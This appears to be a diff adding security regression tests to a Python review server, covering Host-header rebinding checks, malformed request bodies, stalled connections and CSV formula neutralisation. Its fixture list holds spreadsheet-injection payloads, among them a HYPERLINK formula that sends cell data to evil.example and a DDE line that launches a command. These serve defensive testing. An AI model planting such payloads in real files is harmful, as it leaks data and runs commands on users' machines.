@@ -190,3 +190,201 @@ def test_command_line_export_and_bad_run(tmp_path, capsys):
     assert "quilt-2,https://" in (tmp_path / "l.csv").read_text()
     assert main(["review", "--run", str(tmp_path), "--export", str(tmp_path / "x.csv")]) == 2
     assert "no quilts/ table" in capsys.readouterr().err
+
+
+def _serve(tmp_path, host: str, allow_hosts: tuple[str, ...] = ()):
+    run = Run.open(make_run(tmp_path / "run"))
+    app = ReviewApp(run, LabelStore(tmp_path / "labels.sqlite"))
+    server, _ = serve_in_thread(app, host, 0, allow_hosts=allow_hosts) if allow_hosts else serve_in_thread(app, host)
+    return app, server, server.server_address[1]
+
+
+def _interface_address() -> str:
+    """A non-loopback IPv4 address of this machine (no packet is sent), or skip."""
+    import socket
+
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.connect(("192.0.2.1", 9))
+            address = s.getsockname()[0]
+    except OSError:
+        address = ""
+    if not address or address.startswith("127.") or address == "0.0.0.0":
+        pytest.skip("no non-loopback IPv4 interface")
+    return address
+
+
+@pytest.mark.parametrize("bind", ["127.1", "127.0.0.1", "0.0.0.0", "interface"])
+def test_host_header_is_checked_whatever_address_is_bound(tmp_path, bind):
+    """Issue 16: --host 127.1 (or an interface address, or 0.0.0.0) switched the check off."""
+    if bind == "interface":
+        bind = _interface_address()
+    _, server, port = _serve(tmp_path, bind)
+    loopback = bind.startswith("127.") or bind == "0.0.0.0"
+    try:
+        base = f"http://{'127.0.0.1' if loopback else bind}:{port}"
+        for evil in (f"evil.example:{port}", "evil.example", f"127.0.0.1.evil.example:{port}", ""):
+            status, _, _ = fetch(base + "/", headers={"Host": evil})
+            assert status == 421, evil
+        assert fetch(base + "/", headers={"Host": f"{bind}:{port}"})[0] == 200
+        if loopback:
+            assert fetch(base + "/", headers={"Host": f"127.0.0.1:{port}"})[0] == 200
+            assert fetch(base + "/", headers={"Host": f"LOCALHOST:{port}"})[0] == 200
+        else:  # reached on an interface: loopback names are a rebinding target too
+            assert fetch(base + "/", headers={"Host": f"localhost:{port}"})[0] == 421
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_allow_host_adds_names_and_nothing_else(tmp_path):
+    _, server, port = _serve(tmp_path, "0.0.0.0", allow_hosts=("Review.Example.org", "judge.lan:8443"))
+    try:
+        base = f"http://127.0.0.1:{port}"
+        for good in (f"review.example.org:{port}", "review.example.org", "judge.lan:8443"):
+            assert fetch(base + "/", headers={"Host": good})[0] == 200, good
+        for evil in (f"judge.lan:{port}", f"evil.example:{port}", f"example.org:{port}"):
+            assert fetch(base + "/", headers={"Host": evil})[0] == 421, evil
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_command_line_allow_host_is_repeatable(tmp_path, monkeypatch, capsys):
+    from quiltdetect.cli import main
+    from quiltdetect.review import server as server_module
+
+    seen = {}
+
+    class Stub:
+        server_address = ("0.0.0.0", 9)
+
+        def serve_forever(self):
+            raise KeyboardInterrupt
+
+        def server_close(self):
+            pass
+
+    def fake_make_server(app, host, port, allow_hosts=()):
+        seen.update(host=host, port=port, allow_hosts=tuple(allow_hosts))
+        return Stub()
+
+    monkeypatch.setattr(server_module, "make_server", fake_make_server)
+    run_dir = make_run(tmp_path / "run")
+    argv = ["review", "--run", str(run_dir), "--host", "0.0.0.0", "--port", "0",
+            "--allow-host", "a.example", "--allow-host", "b.example:80"]
+    assert main(argv) == 0
+    assert seen == {"host": "0.0.0.0", "port": 0, "allow_hosts": ("a.example", "b.example:80")}
+
+
+def _raw_post(base: str, content_length: str | None, body: bytes = b"", timeout: float = 3.0,
+              extra: str = "") -> bytes:
+    """Send a POST /label with the given Content-Length header over a raw socket; the response
+    bytes (b"" if the server dropped the connection; socket.timeout if it did not answer)."""
+    import socket
+    from urllib.parse import urlsplit
+
+    url = urlsplit(base)
+    length = "" if content_length is None else f"Content-Length: {content_length}\r\n"
+    with socket.create_connection((url.hostname, url.port), timeout=timeout) as sock:
+        sock.sendall(f"POST /label HTTP/1.1\r\nHost: {url.netloc}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+                     f"{length}{extra}\r\n".encode() + body)
+        chunks = []
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                break
+            chunks.append(data)
+        return b"".join(chunks)
+
+
+@pytest.mark.parametrize("length,status", [
+    ("-1", 400), ("abc", 400), ("", 400), ("1e3", 400), ("0x10", 400), (" -0", 400), ("12 34", 400),
+    ("99999999999999999999", 413), ("1000001", 413),
+])
+def test_bad_content_length_is_answered_at_once(served, length, status):
+    """Issue 16: -1 held a server thread until the client left; abc dropped the connection with a
+    traceback. Both (and other non-numbers) are 400 at once; an absurd length is 413."""
+    _, base = served
+    response = _raw_post(base, length)
+    assert response.split(b"\r\n", 1)[0].split()[1] == str(status).encode(), response[:200]
+    # the server is still serving
+    assert fetch(base + "/")[0] == 200
+
+
+def test_a_good_content_length_still_labels(served):
+    app, base = served
+    body = urlencode({"doc_id": "quilt-0", "label": "spam", "token": app.token}).encode()
+    response = _raw_post(base, str(len(body)), body)
+    assert response.startswith(b"HTTP/1.0 303") or response.startswith(b"HTTP/1.1 303"), response[:200]
+    assert app.store.of_run(app.run.key)["quilt-0"][0] == "spam"
+
+
+@pytest.mark.parametrize("length,extra,status", [
+    ("5", "Content-Length: 6\r\n", 400),  # two different lengths
+    (None, "Transfer-Encoding: chunked\r\n", 411),
+])
+def test_ambiguous_or_chunked_bodies_are_refused(served, length, extra, status):
+    _, base = served
+    response = _raw_post(base, length, b"5\r\nhello\r\n0\r\n\r\n", extra=extra)
+    assert response.split(b"\r\n", 1)[0].split()[1] == str(status).encode(), response[:200]
+
+
+def test_a_stalled_body_frees_its_thread(served, monkeypatch, capsys):
+    from quiltdetect.review.server import Handler
+
+    assert Handler.timeout is not None and 0 < Handler.timeout <= 120  # not held forever
+    monkeypatch.setattr(Handler, "timeout", 1)
+    _, base = served
+    assert _raw_post(base, "100", b"token=x", timeout=5) == b""  # closed after the timeout, not held
+    assert fetch(base + "/")[0] == 200
+    assert "Traceback" not in capsys.readouterr().err
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", "'=already quoted"]
+
+
+def test_label_exports_neutralise_formulas(tmp_path):
+    """Issue 16: a doc id, url or note beginning with = + - @ tab or CR was exported as-is to
+    export.csv, where a spreadsheet runs it. Such cells now begin with a ' and read back exactly."""
+    import csv
+
+    import pyarrow as pa
+
+    from quiltdetect.cli import main
+    from quiltdetect.common.csvsafe import restore_cell
+
+    root = make_run(tmp_path / "run")
+    quilts = pq.read_table(root / "quilts").to_pylist()
+    for q in quilts:
+        if q["doc_id"] == "quilt-0":
+            q["url"] = FORMULAS[0]  # a hostile crawled url
+    pq.write_table(pa.Table.from_pylist(quilts), root / "quilts" / "part-00000.parquet")
+    run = Run.open(root)
+    app = ReviewApp(run, LabelStore(tmp_path / "labels.sqlite"))
+    for i, formula in enumerate(FORMULAS):
+        app.store.set(run.key, formula if i else "quilt-0", "spam", FORMULAS[-1 - i])
+    server, base = serve_in_thread(app)
+    try:
+        status, _, body = fetch(base + "/export.csv")
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert status == 200
+    via_cli = tmp_path / "labels.csv"
+    assert main(["review", "--run", str(root), "--db", str(tmp_path / "labels.sqlite"), "--export", str(via_cli)]) == 0
+    for data in (body, via_cli.read_bytes()):
+        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+        assert len(rows) == len(FORMULAS)
+        for row in rows:
+            for name in ("doc_id", "url", "note"):
+                cell = row[name]
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+        got = {restore_cell(r["doc_id"]): (restore_cell(r["url"]), restore_cell(r["note"])) for r in rows}
+        assert got["quilt-0"] == (FORMULAS[0], FORMULAS[-1])
+        for i, formula in enumerate(FORMULAS[1:], 1):
+            assert got[formula] == ("", FORMULAS[-1 - i])
+        quilt = next(r for r in rows if r["doc_id"] == "quilt-0")
+        assert float(quilt["patchfrac"]) == run.by_id["quilt-0"]["patchfrac"]  # numbers untouched
+        assert quilt["url"] == "'" + FORMULAS[0] and quilt["note"] == "''=already quoted"  # visible, readable
